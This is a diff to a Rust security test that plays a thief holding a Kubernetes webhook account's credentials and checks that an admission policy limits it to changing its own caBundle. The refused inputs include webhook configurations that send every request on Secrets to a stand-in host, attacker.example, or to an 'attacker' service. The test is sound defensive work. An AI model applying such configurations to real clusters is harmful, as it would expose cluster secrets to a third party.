@@ -1,6 +1,9 @@
 //! What each account is worth to a thief, right by right: asked of the API server as that account, and tried where it matters most.
 
+use std::time::Duration;
+
 use isp_lab::ControlPlane;
+use isp_lab::provision::KubernetesVersion;
 use serde_json::{Value, json};
 
 use crate::stolen::{AGENT, OPERATOR, SYSTEM, Thief, WEBHOOK, install};
@@ -154,7 +157,14 @@ async fn each_account_can_be_misused_as_the_docs_say_and_no_further() {
         }
     }
     the_operator_runs_anything_beside_kube_proxy(&Thief::of(&cluster, OPERATOR).await).await;
-    the_webhook_is_asked_about_anything(&Thief::of(&cluster, WEBHOOK).await).await;
+    the_webhook_changes_its_ca_bundle_and_no_other_field(&Thief::of(&cluster, WEBHOOK).await).await;
+}
+
+#[tokio::test]
+async fn the_oldest_api_server_holds_the_webhook_to_its_ca_bundle_too() {
+    let cluster = ControlPlane::start_version(KubernetesVersion::V1_33).await.unwrap();
+    install(&cluster).await;
+    the_webhook_changes_its_ca_bundle_and_no_other_field(&Thief::of(&cluster, WEBHOOK).await).await;
 }
 
 async fn the_operator_runs_anything_beside_kube_proxy(thief: &Thief<'_>) {
@@ -175,27 +185,73 @@ async fn the_operator_runs_anything_beside_kube_proxy(thief: &Thief<'_>) {
     thief.is_refused(&create, &set(SYSTEM), "Forbidden").await;
 }
 
-/// The right to patch is meant for one field, the caBundle; RBAC knows no fields.
-async fn the_webhook_is_asked_about_anything(thief: &Thief<'_>) {
-    let rules = json!([{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["*"], "resources": ["secrets"], "scope": "*"}]);
-    let configuration = |name: &str| {
-        json!({
-            "apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration", "metadata": {"name": name},
-            "webhooks": [{
-                "name": "objects.sourcepreserve.io", "admissionReviewVersions": ["v1"], "sideEffects": "None", "rules": rules,
-                "clientConfig": {"url": "https://attacker.example/"},
-            }],
-        })
+/// RBAC knows no fields, so an admission policy looks at them. The API server takes a moment to know it.
+async fn the_webhook_changes_its_ca_bundle_and_no_other_field(thief: &Thief<'_>) {
+    let apply =
+        |manager| ["apply", "--server-side", "--force-conflicts", "--dry-run=server", manager, "-f", "-"];
+    let mine = apply("--field-manager=sourcepreserve-webhook");
+    let configuration = |metadata: Value, webhook: Value| {
+        let mut applied = json!({
+            "apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration",
+            "metadata": {"name": "sourcepreserve.io"}, "webhooks": [{"name": "objects.sourcepreserve.io"}],
+        });
+        merge(&mut applied["metadata"], metadata);
+        merge(&mut applied["webhooks"][0], webhook);
+        applied
     };
-    let apply = [
-        "apply",
-        "--server-side",
-        "--force-conflicts",
-        "--dry-run=server",
-        "--field-manager=kubectl",
-        "-f",
-        "-",
-    ];
-    thief.succeeds(&apply, &configuration("sourcepreserve.io")).await;
-    thief.is_refused(&apply, &configuration("another"), "orbidden").await;
+    let of_webhook = |webhook: Value| configuration(json!({}), webhook);
+    let secrets =
+        json!([{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["*"], "resources": ["secrets"]}]);
+    isp_lab::until(Duration::from_mins(1), "the policy holds", async || {
+        !thief.kubectl(&mine, &of_webhook(json!({"rules": secrets}))).await.success
+    })
+    .await;
+
+    let webhook_refused = "may not change any field but clientConfig.caBundle";
+    for webhook in [
+        json!({"rules": secrets}),
+        json!({"clientConfig": {"service": {"namespace": "default", "name": "attacker"}}}),
+        json!({"failurePolicy": "Fail"}),
+        json!({"timeoutSeconds": 30}),
+        json!({"matchConditions": [{"name": "never", "expression": "false"}]}),
+        json!({"namespaceSelector": {"matchLabels": {"a": "b"}}}),
+        json!({"objectSelector": {"matchLabels": {"a": "b"}}}),
+        json!({"matchPolicy": "Exact"}),
+        json!({"sideEffects": "NoneOnDryRun"}),
+        json!({"admissionReviewVersions": ["v1", "v1beta1"]}),
+        // One more.
+        json!({
+            "name": "more.example.com", "admissionReviewVersions": ["v1"], "sideEffects": "None", "rules": secrets,
+            "clientConfig": {"url": "https://attacker.example/"},
+        }),
+    ] {
+        thief.is_refused(&mine, &of_webhook(webhook), webhook_refused).await;
+    }
+    // In the name of the installation, whose fields could be taken away so.
+    let other = json!({
+        "admissionReviewVersions": ["v1"], "sideEffects": "None", "rules": secrets,
+        "clientConfig": {"url": "https://attacker.example/"},
+    });
+    let policy = "sourcepreserve-webhook-ca-bundle-only";
+    thief.is_refused(&apply("--field-manager=kubectl"), &of_webhook(other), policy).await;
+    for metadata in [
+        json!({"labels": {"a": "b"}}),
+        json!({"annotations": {"a": "b"}}),
+        json!({"finalizers": ["example.com/mine"]}),
+        json!({"ownerReferences": [{"apiVersion": "v1", "kind": "Namespace", "name": "gone", "uid": "1"}]}),
+    ] {
+        let refused = "metadata: the webhook may not change it";
+        thief.is_refused(&mine, &configuration(metadata, json!({})), refused).await;
+    }
+    let bundle = json!({"clientConfig": {"caBundle": k8s_openapi::ByteString(CERTIFICATE.into())}});
+    thief.succeeds(&mine, &of_webhook(bundle)).await;
+}
+
+/// What the API server takes for a bundle.
+const CERTIFICATE: &str = include_str!("certificate.pem");
+
+fn merge(into: &mut Value, fields: Value) {
+    if let (Value::Object(into), Value::Object(fields)) = (into, fields) {
+        into.extend(fields);
+    }
 }
